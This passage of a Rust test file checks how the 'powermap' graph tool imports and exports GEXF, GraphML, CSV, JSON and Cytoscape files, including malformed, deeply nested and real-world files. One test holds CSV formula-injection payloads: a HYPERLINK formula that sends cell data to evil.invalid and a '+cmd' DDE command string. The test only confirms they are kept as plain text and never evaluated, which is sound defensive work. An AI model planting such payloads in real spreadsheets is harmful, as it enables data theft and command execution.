    assert!(text.contains("truncated.gexf"), "{text}");
    let error = import_error("hostile/truncated.json");
    match &error {
        ImportError::Malformed {
            place: Place::Text { line, .. },
            ..
        } => assert_eq!(*line, 3, "{error}"),
        other => panic!("expected a located error, got {other}"),
    }
}

#[test]
fn ragged_csv_rows_name_their_line_and_the_rest_opens() {
    let Imported {
        network, report, ..
    } = import("hostile/ragged.csv");
    assert_eq!(network.ties.len(), 2, "{report}");
    assert_eq!(report.count(Finding::LongRow), 1, "{report}");
    assert_eq!(
        report.findings[&Finding::LongRow].examples[0],
        "line 3: 4 cells, the header has 3"
    );
}

#[test]
fn formula_cells_stay_plain_text() {
    let Imported {
        network, report, ..
    } = import("hostile/formulas.csv");
    assert_eq!(
        name(&network, "a", "en"),
        "=HYPERLINK(\"http://evil.invalid/?\"&A1)"
    );
    let b = network.entity("b").expect("b");
    assert_eq!(
        attribute(&b.attributes, "Website"),
        Some("+cmd|' /C calc'!A0")
    );
    assert_eq!(attribute(&b.attributes, "Score"), Some("+7"));
    assert_eq!(report.count(Finding::FormulaCell), 5, "{report}");
    assert!(report.to_string().contains("never evaluated"));
}

#[test]
fn missing_nodes_and_duplicates_are_reported_and_the_rest_opens() {
    let Imported {
        network, report, ..
    } = import("hostile/missing-nodes.graphml");
    assert_eq!(network.entities.len(), 2);
    assert_eq!(name(&network, "a", "en"), "Ada", "the first is kept");
    assert_eq!(network.ties.len(), 2);
    assert_eq!(network.ties[0].participants, ["a", "b"]);
    assert_eq!(
        network.ties[1].participants,
        ["a", "a"],
        "the self-loop is kept"
    );
    assert_eq!(report.count(Finding::DuplicateEntityId), 1);
    assert_eq!(report.count(Finding::DuplicateTieId), 1);
    assert_eq!(report.count(Finding::MissingNode), 2);
    assert_eq!(report.count(Finding::MissingEndpoint), 1);
    let text = report.to_string();
    assert!(text.contains("no node \"x\""), "{text}");
    assert!(text.contains("line 10"), "{text}");

    let Imported {
        network, report, ..
    } = import("hostile/duplicate-ids.json");
    assert_eq!(network.entities.len(), 2);
    assert_eq!(network.ties.len(), 1);
    assert_eq!(
        network.ties[0].kind,
        TieKind::Other,
        "the first edge is kept"
    );
    assert_eq!(report.count(Finding::DuplicateEntityId), 1);
    assert_eq!(report.count(Finding::DuplicateTieId), 1);
    assert!(report.findings[&Finding::DuplicateEntityId].examples[0].contains("nodes[1]"));
}

#[test]
fn deep_nesting_is_refused_not_recursed() {
    let folder = tempfile::tempdir().expect("tempdir");
    let depth = 10_000;
    let cases = [
        (
            "deep.gexf",
            format!(
                "<gexf version=\"1.3\"><graph><nodes><node id=\"a\">{}{}</node></nodes></graph></gexf>",
                "<x>".repeat(depth),
                "</x>".repeat(depth)
            ),
        ),
        (
            "deep.graphml",
            format!(
                "<graphml>{}{}</graphml>",
                "<graph>".repeat(depth),
                "</graph>".repeat(depth)
            ),
        ),
        (
            "deep.json",
            format!(
                "{{\"nodes\": [{{\"id\": \"a\", \"x\": {}{}}}], \"links\": []}}",
                "[".repeat(depth),
                "]".repeat(depth)
            ),
        ),
        (
            "deep-array.json",
            format!("{}{}", "[".repeat(depth), "]".repeat(depth)),
        ),
        (
            "deep-powermap.json",
            format!(
                "{{\"format\": \"powermap\", \"version\": 1, \"entities\": {}{}}}",
                "[".repeat(depth),
                "]".repeat(depth)
            ),
        ),
    ];
    for (name, text) in cases {
        let path = folder.path().join(name);
        #[allow(clippy::disallowed_methods, reason = "a test fixture")]
        std::fs::write(&path, text).expect("write");
        let error = import_file(&path).expect_err(name);
        assert!(
            matches!(error, ImportError::Refused { .. }),
            "{name}: {error}"
        );
        assert!(
            error
                .to_string()
                .contains(&format!("deeper than {MAX_DEPTH}")),
            "{name}: {error}"
        );
    }
}

#[test]
fn binary_files_are_not_text() {
    let error = import_bytes(
        &[0x89, b'P', b'N', b'G', 0xFF, 0x00, 0xFE],
        Path::new("x.gexf"),
    )
    .expect_err("binary");
    assert!(error.to_string().contains("0x"), "{error}");
}

// --- export and round trips ---

fn default_network() -> Network {
    load_default_network().expect("the default network").network
}

/// Sources and groups come back in the order ties and entities first use them.
fn sorted(mut network: Network) -> Network {
    network.sources.sort_by(|a, b| a.id.cmp(&b.id));
    network.groups.sort_by(|a, b| a.id.cmp(&b.id));
    network
}

fn round_trip(network: &Network, format: ExportFormat, name: &str) -> Imported {
    let text = export_to_string(network, format).expect("exports");
    import_bytes(text.as_bytes(), Path::new(name)).unwrap_or_else(|err| panic!("{name}: {err}"))
}

#[test]
fn round_trips_keep_the_whole_default_network() {
    let original = default_network();
    assert!(
        original.ties.iter().any(|tie| tie.participants.len() > 2),
        "the default network has ties among three or more"
    );
    for (format, name) in [
        (ExportFormat::GraphMl, "back.graphml"),
        (ExportFormat::NodeLink, "back.nodelink.json"),
        (ExportFormat::Gexf, "back.gexf"),
        (ExportFormat::Gml, "back.gml"),
    ] {
        let Imported {
            network, report, ..
        } = round_trip(&original, format, name);
        let mut expected = original.clone();
        // The story is powermap's own: the other formats have no place for it.
        expected.story.clear();
        if format == ExportFormat::Gexf {
            // GEXF has no place for a title: the file name gives it.
            expected.title = "back".to_owned();
        }
        assert_eq!(network.entities, expected.entities, "{name}: entities");
        assert_eq!(network.ties, expected.ties, "{name}: ties");
        assert_eq!(
            sorted(network.clone()),
            sorted(expected),
            "{name}: the rest"
        );
        assert_eq!(report.counts.evidence, original.ties.len(), "{name}");
        assert!(report.findings.is_empty(), "{name}: {report}");
        assert!(report.entity_attributes.is_empty(), "{name}: {report}");
    }
}

#[test]
fn round_trips_keep_positions_pins_attributes_and_awkward_text() {
    let mut network = default_network();
    let entity = &mut network.entities[0];
    entity.position = Some(Position { x: -12.25, y: 1e-3 });
    entity.pinned = true;
    entity.attributes.insert("kind", "a user's own \"kind\"");
    entity
        .attributes
        .insert("note", "line one\nline two\ttab <&>");
    let tie = &mut network.ties[0];
    tie.attributes.insert("date", "not the tie's date");
    tie.attributes.insert("attribute:x", "prefixed already");
    tie.summary = "quotes \" and ' and \r\n newlines".into();
    tie.status = TieStatus::Alleged;
    // A user's own `status` that is not one of powermap's travels as an attribute.
    network.ties[1]
        .attributes
        .insert("status", "alleged, says who?");
    network.ties[2].status = TieStatus::Denied;
    for (format, name) in [
        (ExportFormat::GraphMl, "t.graphml"),
        (ExportFormat::NodeLink, "t.nodelink.json"),
        (ExportFormat::Gexf, "t.gexf"),
        (ExportFormat::Gml, "t.gml"),
    ] {
        let back = round_trip(&network, format, name).network;
        assert_eq!(back.entities, network.entities, "{name}");
        assert_eq!(back.ties, network.ties, "{name}");
    }
}

#[test]
fn self_loops_are_kept_with_their_attributes_in_every_format() {
    for (name, acme, globex) in [
        ("self-loops/ownership.gexf", "acme", "globex"),
        ("self-loops/ownership.graphml", "acme", "globex"),
        ("self-loops/ownership.gml", "0", "1"),
        ("self-loops/edges.csv", "acme", "globex"),
    ] {
        let Imported {
            network, report, ..
        } = import(name);
        assert_eq!(network.ties.len(), 2, "{name}: {report}");
        let treasury = network
            .tie("treasury")
            .unwrap_or_else(|| panic!("{name}: no loop"));
        assert_eq!(treasury.participants, [acme, acme], "{name}");
        assert!(treasury.is_self_loop(), "{name}");
        assert_eq!(treasury.kind, TieKind::Affiliate, "{name}");
        assert_eq!(
            attribute(&treasury.attributes, "share"),
            Some("5%"),
            "{name}"
        );
        let stake = network.tie("stake").expect("the other edge");
        assert_eq!(stake.participants, [globex, acme], "{name}");
        assert!(
            report.findings.is_empty(),
            "{name}: nothing dropped: {report}"
        );
    }
}

#[test]
fn round_trips_keep_self_loops() {
    let mut network = default_network();
    let owner = network.entities[0].id.clone();
    let mut own = network.ties[0].clone();
    own.id = "own-shares".to_owned();
    own.kind = TieKind::Affiliate;
    own.participants = vec![owner.clone(), owner];
    own.attributes.insert("share", "5%");
    network.ties.push(own.clone());
    for (format, name) in [
        (ExportFormat::GraphMl, "loops.graphml"),
        (ExportFormat::NodeLink, "loops.nodelink.json"),
        (ExportFormat::Gexf, "loops.gexf"),
        (ExportFormat::Gml, "loops.gml"),
    ] {
        let Imported {
            network: back,
            report,
            ..
        } = round_trip(&network, format, name);
        assert_eq!(back.tie("own-shares"), Some(&own), "{name}");
        assert_eq!(back.ties, network.ties, "{name}");
        assert!(report.findings.is_empty(), "{name}: {report}");
    }
}

#[test]
fn exports_are_what_other_tools_read() {
    let network = default_network();
    let gexf = export_to_string(&network, ExportFormat::Gexf).expect("gexf");
    let document = roxmltree::Document::parse(&gexf).expect("well-formed GEXF");
    let root = document.root_element();
    assert_eq!(root.tag_name().name(), "gexf");
    assert_eq!(root.tag_name().namespace(), Some("http://gexf.net/1.3"));
    assert_eq!(root.attribute("version"), Some("1.3"));
    let edges = document
        .descendants()
        .filter(|node| node.has_tag_name(("http://gexf.net/1.3", "edge")))
        .count();
    assert!(
        edges > network.ties.len(),
        "ties among three or more are one edge per pair"
    );
    let dated = document
        .descendants()
        .find(|node| {
            node.has_tag_name(("http://gexf.net/1.3", "edge")) && node.has_attribute("start")
        })
        .expect("dated edges carry their span for Gephi's timeline");
    assert!(dated.attribute("end").is_some());

    let graphml = export_to_string(&network, ExportFormat::GraphMl).expect("graphml");
    let document = roxmltree::Document::parse(&graphml).expect("well-formed GraphML");
    let ns = "http://graphml.graphdrawing.org/xmlns";
    assert_eq!(document.root_element().tag_name().namespace(), Some(ns));
    let nodes = document
        .descendants()
        .filter(|node| node.has_tag_name((ns, "node")))
        .count();
    assert_eq!(nodes, network.entities.len());

    let node_link = export_to_string(&network, ExportFormat::NodeLink).expect("node-link");
    let value: serde_json::Value = serde_json::from_str(&node_link).expect("JSON");
    assert_eq!(value["directed"], false);
    assert_eq!(
        value["nodes"].as_array().map(Vec::len),
        Some(network.entities.len())
    );
    let first = &value["links"][0];
    assert!(first["source"].is_string() && first["target"].is_string());
    assert!(
        first["evidence"].is_array(),
        "evidence is JSON, not a string, here"
    );
}

#[test]
fn gephis_formats_are_written_with_its_y_axis_up() {
    let mut network = default_network();
    let id = network.entities[0].id.clone();
    network.entities[0].position = Some(Position { x: 55.5, y: 209.25 });
    let written_y = |format: ExportFormat| {
        let text = export_to_string(&network, format).expect("exports");
        let document = roxmltree::Document::parse(&text).expect("well-formed XML");
        let node = document
            .descendants()
            .find(|node| node.tag_name().name() == "node" && node.attribute("id") == Some(&id))
            .expect("the entity's node");
        match format {
            ExportFormat::Gexf => node
                .children()
                .find(|child| child.tag_name().name() == "position")
                .and_then(|at| at.attribute("y"))
                .map(str::to_owned),
            _ => node
                .children()
                .find(|child| child.attribute("key") == Some("y"))
                .and_then(|data| data.text())
                .map(str::to_owned),
        }
    };
    assert_eq!(
        written_y(ExportFormat::Gexf).as_deref(),
        Some("-209.25"),
        "Gephi draws -y"
    );
    assert_eq!(written_y(ExportFormat::GraphMl).as_deref(), Some("-209.25"));
    let node_link = export_to_string(&network, ExportFormat::NodeLink).expect("node-link");
    let value: serde_json::Value = serde_json::from_str(&node_link).expect("JSON");
    assert_eq!(
        value["nodes"][0]["y"], 209.25,
        "d3's y axis points down, as powermap's"
    );
}

#[test]
fn convert_goes_through_files_and_back() {
    let folder = tempfile::tempdir().expect("tempdir");
    let original = folder.path().join("samsung.json");
    save_network(&default_network(), &original, Overwrite::Refuse).expect("save");
    for ending in ["gexf", "graphml", "nodelink.json"] {
        let exported = folder.path().join(format!("samsung.{ending}"));
        let report = convert(&original, &exported, Overwrite::Refuse).expect("to");
        assert_eq!(report.format, Format::Powermap);
        let back = folder
            .path()
            .join(format!("back-from-{}.json", ending.replace('.', "-")));
        let report = convert(&exported, &back, Overwrite::Refuse).expect("back");
        assert_ne!(report.format, Format::Powermap);
        let back = load_file(&back)
            .expect("the result opens in powermap")
            .network;
        let before = default_network();
        assert_eq!(back.entities, before.entities, "{ending}");
        assert_eq!(back.ties, before.ties, "{ending}");
        assert_eq!(sorted(back).sources, sorted(before).sources, "{ending}");
    }
    let unknown = convert(&original, &folder.path().join("x.png"), Overwrite::Replace);
    assert!(
        matches!(unknown, Err(ConvertError::UnknownOutputFormat { .. })),
        "{unknown:?}"
    );
}

#[test]
fn export_refuses_to_replace_unless_asked() {
    let folder = tempfile::tempdir().expect("tempdir");
    let path = folder.path().join("map.gexf");
    let network = default_network();
    export_network(&network, ExportFormat::Gexf, &path, Overwrite::Refuse).expect("new file");
    let refused = export_network(&network, ExportFormat::Gexf, &path, Overwrite::Refuse);
    assert!(
        matches!(refused, Err(ExportError::Save(SaveError::Exists { .. }))),
        "{refused:?}"
    );
    export_network(&network, ExportFormat::GraphMl, &path, Overwrite::Replace).expect("replace");
    assert!(
        std::fs::read_to_string(&path)
            .expect("read")
            .contains("<graphml")
    );
}

#[test]
fn imported_networks_save_and_load_as_powermap_files() {
    let folder = tempfile::tempdir().expect("tempdir");
    for name in [
        "gephi-1.2.gexf",
        "gexf-1.1.gexf",
        "gephi-wide-layout.gexf",
        "dynamic-1.2.gexf",
        "dynamic-1.3.gexf",
        "gephi.graphml",
        "yed.graphml",
        "yed-folder.graphml",
        "graph-tool.graphml",
        "d3-index.json",
        "networkx-ids.json",
        "cytoscape-object.cyjs",
        "cytoscape-array.json",
        "csv-euc-kr/edges.csv",
        "csv-gephi-export/edges.csv",
    ] {
        let imported = import(name);
        let path = folder.path().join("saved.json");
        save_network(&imported.network, &path, Overwrite::Replace).expect("save");
        let loaded = load_file(&path).unwrap_or_else(|err| panic!("{name}: {err}"));
        assert_eq!(loaded.network, imported.network, "{name}");
        assert!(
            loaded
                .warnings
                .iter()
                .all(|w| w.message.contains("evidence")),
            "{name}: {:?}",
            loaded.warnings
        );
    }
}

// --- real files, written by the tools themselves (docs/real-files.md) ---
//
// They are not in the repository: docs/real-files.md says where each comes from. Run these
// with `POWERMAP_REAL_FILES=<folder> cargo test --test interop -- --ignored`. What they
// taught us is also tested above, on small hand-written files in each tool's dialect.

/// What the `real_…` tests need, and say when they do not have it.
const NEEDS_REAL_FILES: &str =
    "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)";

/// A real file, from the folder `POWERMAP_REAL_FILES` names.
fn real(name: &str) -> PathBuf {
    let folder = std::env::var_os("POWERMAP_REAL_FILES")
        .filter(|folder| !folder.is_empty())
        .unwrap_or_else(|| panic!("{NEEDS_REAL_FILES}"));
    let path = Path::new(&folder).join(name);
    assert!(
        path.is_file(),
        "{} is missing: {NEEDS_REAL_FILES}",
        path.display()
    );
    path
}

fn import_real(name: &str) -> Imported {
    import_file(&real(name)).unwrap_or_else(|err| panic!("{name}: {err}"))
}

/// Imports a real GEXF or GraphML file after checking that roxmltree counts the `<node>`
/// and `<edge>` elements `expected` says, and that each became an entity or a tie.
fn import_real_xml(name: &str, expected: (usize, usize)) -> Imported {
    assert_eq!(
        xml_nodes_and_edges(name),
        expected,
        "{name}: <node>s and <edge>s"
    );
    let imported = import_real(name);
    let network = &imported.network;
    assert_eq!((network.entities.len(), network.ties.len()), expected);
    imported
}

/// The `<node>` and `<edge>` elements of a GEXF or GraphML file, counted by roxmltree.
fn xml_nodes_and_edges(name: &str) -> (usize, usize) {
    let text = std::fs::read_to_string(real(name)).expect("fixture");
    let document = roxmltree::Document::parse(&text).expect("well-formed XML");
    let count = |local: &str| {
        document
            .descendants()
            .filter(|node| node.is_element() && node.tag_name().name() == local)
            .count()
    };
    (count("node"), count("edge"))
}

fn json_file(name: &str) -> serde_json::Value {
    serde_json::from_str(&std::fs::read_to_string(real(name)).expect("fixture")).expect("JSON")
}

fn position(network: &Network, id: &str) -> Position {
    network
        .entity(id)
        .unwrap_or_else(|| panic!("no entity {id}"))
        .position
        .unwrap_or_else(|| panic!("{id} has no position"))
}

/// Pearson's correlation of two equally long series.
fn correlation(a: &[f64], b: &[f64]) -> f64 {
    let mean = |values: &[f64]| values.iter().sum::<f64>() / values.len() as f64;
    let (mean_a, mean_b) = (mean(a), mean(b));
    let covariance: f64 = a
        .iter()
        .zip(b)
        .map(|(x, y)| (x - mean_a) * (y - mean_b))
        .sum();
    let spread = |values: &[f64], mean: f64| {
        values
            .iter()
            .map(|value| (value - mean).powi(2))
            .sum::<f64>()
            .sqrt()
    };
    covariance / (spread(a, mean_a) * spread(b, mean_b))
}

/// How a geographic layout's y follows the entities' `latitude` attribute: −1 when north
/// is up on powermap's map, whose y axis points down.
fn latitude_against_y(network: &Network) -> f64 {
    let (latitudes, ys): (Vec<f64>, Vec<f64>) = network
        .entities
        .iter()
        .map(|entity| {
            let latitude = attribute(&entity.attributes, "latitude")
                .and_then(|value| value.parse::<f64>().ok())
                .unwrap_or_else(|| panic!("{} has no latitude", entity.id));
            let y = entity.position.expect("every entity has a position").y;
            (latitude, y)
        })
        .unzip();
    correlation(&latitudes, &ys)
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_gexf_from_gephi_0_9_keeps_its_map_north_up() {
    let file = "gephi-0.9.3-us-airports.gexf";
    let (nodes, edges) = (235, 1297);
    let Imported {
        network,
        report,
        format,
    } = import_real_xml(file, (nodes, edges));
    assert_eq!(format, Format::Gexf);
    assert_eq!(report.format_version.as_deref(), Some("1.3"));
    assert_eq!(network.title, "gephi-0.9.3-us-airports");
    assert_eq!(report.counts.names, nodes);
    assert_eq!(report.counts.positions, nodes);
    assert_eq!(report.counts.tie_kinds, 0);
    assert!(report.findings.is_empty(), "{report}");
    assert!(
        report.tie_attributes.is_empty(),
        "every edge has GEXF's default weight: {report}"
    );
    for column in ["City", "Code", "latitude", "longitude", "color", "size"] {
        assert_eq!(
            report.entity_attributes.get(column),
            Some(&nodes),
            "{column}"
        );
    }
    assert!(!report.notes.iter().any(|note| note.contains("directed")));
    assert_eq!(scaled_note(&report), None, "already at powermap's spacing");

    assert_eq!(name(&network, "0", "en"), "Adams Field Airport");
    let little_rock = network.entity("0").expect("0");
    assert_eq!(little_rock.kind, EntityKind::Other);
    assert_eq!(
        little_rock.position,
        Some(Position {
            x: 55.805447,
            y: 209.34912
        }),
        "Gephi wrote y = -209.34912 with its y axis up"
    );
    assert_eq!(attribute(&little_rock.attributes, "Code"), Some("LIT"));
    assert_eq!(
        attribute(&little_rock.attributes, "City"),
        Some("Little Rock, AR")
    );
    assert_eq!(attribute(&little_rock.attributes, "color"), Some("#d94ea4"));
    assert_eq!(attribute(&little_rock.attributes, "size"), Some("9.220858"));
    // Gephi's sample has one label already broken into mojibake: it stays as written.
    assert_eq!(
        name(&network, "119", "en"),
        "Louis Armstrong New OrlÃ©ans International Airport"
    );
    // The layout is geographic: north must be up, as Gephi shows it.
    assert_eq!(name(&network, "200", "en"), "Seattle-Tacoma International");
    assert_eq!(name(&network, "132", "en"), "Miami International Airport");
    let (seattle, miami) = (position(&network, "200"), position(&network, "132"));
    assert!(
        seattle.y < miami.y && seattle.x < miami.x,
        "{seattle:?} {miami:?}"
    );
    let north = latitude_against_y(&network);
    assert!(north < -0.99, "latitude against y: {north}");
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_gexf_positions_go_back_to_gephi_as_gephi_wrote_them() {
    let imported = import_real("gephi-0.9.3-us-airports.gexf");
    let gexf = export_to_string(&imported.network, ExportFormat::Gexf).expect("exports");
    let document = roxmltree::Document::parse(&gexf).expect("well-formed GEXF");
    let little_rock = document
        .descendants()
        .find(|node| node.tag_name().name() == "node" && node.attribute("id") == Some("0"))
        .expect("node 0");
    let at = little_rock
        .children()
        .find(|child| child.tag_name().name() == "position")
        .expect("viz:position");
    assert_eq!(at.attribute("x"), Some("55.805447"));
    assert_eq!(at.attribute("y"), Some("-209.34912"), "Gephi's own y");
    for (format, name) in [
        (ExportFormat::Gexf, "back.gexf"),
        (ExportFormat::GraphMl, "back.graphml"),
        (ExportFormat::NodeLink, "back.nodelink.json"),
    ] {
        let back = round_trip(&imported.network, format, name).network;
        assert_eq!(back.entities, imported.network.entities, "{name}");
    }
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_gexf_1_2_from_gephi_0_8() {
    let file = "gephi-0.8.1-standard-graph-communities.gexf";
    let (nodes, edges) = (17, 32);
    let Imported {
        network, report, ..
    } = import_real_xml(file, (nodes, edges));
    assert_eq!(report.format_version.as_deref(), Some("1.2"));
    assert_eq!(report.counts.positions, nodes);
    assert!(report.findings.is_empty(), "{report}");
    assert_eq!(
        report.entity_attributes.get("Modularity Class"),
        Some(&nodes)
    );
    // The "standard graph" spans about 3000 units: it comes in at powermap's spacing.
    assert!(
        scaled_note(&report).is_some_and(|note| note.contains("median line was 1356 units")),
        "{report}"
    );
    let link_distance = f64::from(powermap::layout::LayoutParams::default().link_distance);
    let line = median(line_lengths(&network));
    assert!(
        (line - link_distance).abs() < 1e-5,
        "median line {line}, positions rounded to a millionth"
    );
    let paris = network.entity("Paris").expect("Paris");
    assert_eq!(attribute(&paris.attributes, "latitude"), Some("48.72"));
    let tie = network.tie("8").expect("the file's edge id");
    assert_eq!(tie.participants, ["n1", "Paris"]);
    let north = latitude_against_y(&network);
    assert!(north < -0.99, "latitude against y: {north}");
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_gexf_1_1_les_miserables() {
    let file = "les-miserables-1.1.gexf";
    let (nodes, edges) = (77, 254);
    let text = std::fs::read_to_string(real(file)).expect("fixture");
    let document = roxmltree::Document::parse(&text).expect("XML");
    let weighted = document
        .descendants()
        .filter(|node| node.tag_name().name() == "edge")
        .filter(|edge| {
            edge.attribute("weight")
                .is_some_and(|weight| weight.parse::<f64>() != Ok(1.0))
        })
        .count();
    assert_eq!(weighted, 157);

    let Imported {
        network, report, ..
    } = import_real_xml(file, (nodes, edges));
    assert_eq!(report.format_version.as_deref(), Some("1.1"));
    assert_eq!(
        network.title, "Les Misérables, the characters coappearance weighted graph",
        "GEXF 1.1's <Title>"
    );
    assert!(report.findings.is_empty(), "{report}");
    assert_eq!(name(&network, "0.0", "en"), "Myriel");
    let myriel = network.entity("0.0").expect("ids are written as decimals");
    assert_eq!(
        myriel.position,
        Some(Position {
            x: 268.72385,
            y: -91.18155
        })
    );
    assert_eq!(attribute(&myriel.attributes, "color"), Some("#d8482d"));
    assert_eq!(
        attribute(&myriel.attributes, "Authority"),
        Some("0.01880342")
    );
    assert_eq!(report.tie_attributes.get("weight"), Some(&weighted));
    assert_eq!(
        attribute(&network.tie("1").expect("1").attributes, "weight"),
        Some("8.0")
    );
    assert!(
        network.tie("0").expect("0").attributes.is_empty(),
        "no weight: GEXF's default"
    );
    assert_eq!(network.tie("0").expect("0").participants, ["1.0", "0.0"]);
    assert!(report.notes.iter().any(|note| note.contains("directed")));
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_graphml_from_gephi() {
    let file = "gephi-miserables.graphml";
    let (nodes, edges) = (77, 254);
    let Imported {
        network, report, ..
    } = import_real_xml(file, (nodes, edges));
    assert_eq!(report.counts.names, nodes);
    assert_eq!(report.counts.positions, nodes);
    assert!(report.findings.is_empty(), "{report}");
    assert_eq!(name(&network, "11", "en"), "Valjean");
    let valjean = network.entity("11").expect("11");
    assert_eq!(
        valjean.position,
        Some(Position {
            x: -87.93029,
            y: -6.8120565
        }),
        "Gephi's y axis points up"
    );
    assert_eq!(attribute(&valjean.attributes, "color"), Some("#f55b5b"));
    assert_eq!(
        attribute(&valjean.attributes, "Modularity Class"),
        Some("1")
    );
    assert_eq!(attribute(&valjean.attributes, "size"), Some("100.0"));
    assert!(!valjean.attributes.contains_key("r"), "joined into color");
    // GraphML has no default weight: Gephi writes every edge's, and every one is kept.
    assert_eq!(report.tie_attributes.get("weight"), Some(&edges));
    assert_eq!(
        attribute(&network.tie("1").expect("1").attributes, "weight"),
        Some("8.0")
    );
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_graphml_from_graph_tool() {
    let file = "graph-tool-moviegalaxies.graphml";
    let (nodes, edges) = (27, 102);
    let Imported {
        network, report, ..
    } = import_real_xml(file, (nodes, edges));
    assert_eq!(report.counts.names, 0, "graph-tool wrote no labels");
    assert_eq!(name(&network, "n0", "en"), "n0");
    assert_eq!(report.entity_attributes.get("partition"), Some(&nodes));
    assert_eq!(report.count(Finding::Ignored), 1, "{report}");
    assert!(report.findings[&Finding::Ignored].examples[0].contains("\"dl\""));
    assert_eq!(report.dropped_or_changed(), 1);
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_graphml_from_yed() {
    let file = "yed-3.14.3-gml.graphml";
    let (nodes, edges) = (10, 7);
    let Imported {
        network, report, ..
    } = import_real_xml(file, (nodes, edges));
    assert_eq!(report.counts.names, nodes);
    assert_eq!(report.counts.positions, nodes);
    assert!(report.findings.is_empty(), "{report}");
    assert_eq!(name(&network, "n0", "en"), "1");
    let box_centre = |id: &str| position(&network, id);
    assert_eq!(box_centre("n0"), Position { x: 170.0, y: 409.0 });
    assert_eq!(
        box_centre("n1"),
        Position { x: 439.0, y: 258.5 },
        "a 30 × 131 box"
    );
    assert_eq!(
        attribute(&network.entity("n0").expect("n0").attributes, "color"),
        Some("#FFCC00")
    );
    // A closed folder: yEd shows its second realizer (`active="1"`), not the first.
    assert_eq!(name(&network, "n9", "en"), "2");
    assert_eq!(box_centre("n9"), Position { x: 210.5, y: 424.5 });
    assert_eq!(
        attribute(&network.entity("n9").expect("n9").attributes, "color"),
        Some("#CAECFF80"),
        "yEd's colours may carry an alpha"
    );
    assert_eq!(network.tie("e0").expect("e0").participants, ["n6", "n7"]);
    assert!(report.notes.iter().any(|note| note.contains("directed")));
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_node_link_json_from_d3() {
    let file = "d3-miserables.json";
    let value = json_file(file);
    let nodes = value["nodes"].as_array().map_or(0, Vec::len);
    let links = value["links"].as_array().map_or(0, Vec::len);
    assert_eq!((nodes, links), (77, 254));
    let Imported {
        network,
        report,
        format,
    } = import_real(file);
    assert_eq!(format, Format::NodeLink);
    assert_eq!(network.entities.len(), nodes);
    assert_eq!(network.ties.len(), links);
    assert!(report.findings.is_empty(), "{report}");
    assert!(report.notes.is_empty(), "ids, not indexes: {report}");
    assert_eq!(
        report.counts.names, 0,
        "d3's ids are the names: no label field"
    );
    assert_eq!(name(&network, "Myriel", "en"), "Myriel");
    assert_eq!(
        attribute(
            &network.entity("Myriel").expect("Myriel").attributes,
            "group"
        ),
        Some("1")
    );
    assert_eq!(report.counts.positions, 0);
    let first = network.tie("e0").expect("generated id");
    assert_eq!(first.participants, ["Napoleon", "Myriel"]);
    assert_eq!(attribute(&first.attributes, "value"), Some("1"));
    assert_eq!(report.tie_attributes.get("value"), Some(&links));
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_cyjs_from_cytoscape_desktop() {
    let file = "cytoscape-3.1.0-genemania.cyjs";
    let value = json_file(file);
    assert_eq!(value["generated_by"], "cytoscape-3.1.0");
    let nodes = value["elements"]["nodes"].as_array().map_or(0, Vec::len);
    let edges = value["elements"]["edges"].as_array().map_or(0, Vec::len);
    assert_eq!((nodes, edges), (31, 255));
    let network_data = value["data"].as_object().map_or(0, serde_json::Map::len);
    let Imported {
        network,
        report,
        format,
    } = import_real(file);
    assert_eq!(format, Format::Cytoscape);
    assert_eq!(network.title, "H. sapiens (1)", "data.name");
    assert_eq!(network.entities.len(), nodes);
    assert_eq!(network.ties.len(), edges);
    assert_eq!(report.counts.positions, nodes);
    assert_eq!(
        report.count(Finding::Ignored),
        network_data - 1,
        "the network's own data, but its name: {report}"
    );
    assert_eq!(report.dropped_or_changed(), network_data - 1);
    let med6 = network.entity("296").expect("296");
    assert_eq!(
        med6.position,
        Some(Position {
            x: 147.454345703125,
            y: -30.69869613647461
        }),
        "Cytoscape's y axis points down, as powermap's"
    );
    // Cytoscape's `name` column is GeneMANIA's internal id; the gene is an attribute.
    assert_eq!(name(&network, "296", "en"), "H__sapiens__1_-Hs:5285773");
    assert_eq!(attribute(&med6.attributes, "gene_name"), Some("MED6"));
    assert_eq!(attribute(&med6.attributes, "SUID"), Some("296"));
    assert_eq!(attribute(&med6.attributes, "selected"), Some("false"));
    let edge = network.tie("343").expect("343");
    assert_eq!(edge.participants, ["296", "87"]);
    assert_eq!(edge.kind, TieKind::Other);
    assert_eq!(attribute(&edge.attributes, "data_type"), Some("Predicted"));
    assert_eq!(
        attribute(&edge.attributes, "networks"),
        Some("[\"I2D-BioGRID-Yeast2Human\",\"I2D-Krogan-Greenblatt-2006-Core-Yeast2Human\"]"),
        "lists stay as compact JSON"
    );
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_cytoscape_js_array_with_compound_nodes() {
    let file = "cytoscape-js-compound.json";
    let value = json_file(file);
    let elements = value.as_array().expect("an array of elements");
    let in_group = |group: &str| {
        elements
            .iter()
            .filter(|element| element["group"] == group)
            .count()
    };
    let (nodes, edges) = (in_group("nodes"), in_group("edges"));
    assert_eq!((nodes, edges), (28, 35));
    let children = elements
        .iter()
        .filter(|element| element["data"]["parent"].is_string())
        .count();
    let Imported {
        network,
        report,
        format,
    } = import_real(file);
    assert_eq!(format, Format::Cytoscape);
    assert_eq!(network.entities.len(), nodes);
    assert_eq!(
        network.ties.len(),
        edges + children,
        "each child is tied to its parent"
    );
    assert_eq!(report.counts.positions, nodes);
    assert!(report.findings.is_empty(), "{report}");
    let child = network.entity("n0:n0").expect("n0:n0");
    assert_eq!(parent_of(&network, "n0:n0"), Some("n0"));
    assert!(!child.pinned, "locked: false");
    assert_eq!(
        child.position,
        Some(Position {
            x: 209.0674320882374,
            y: 382.7065284623535
        })
    );
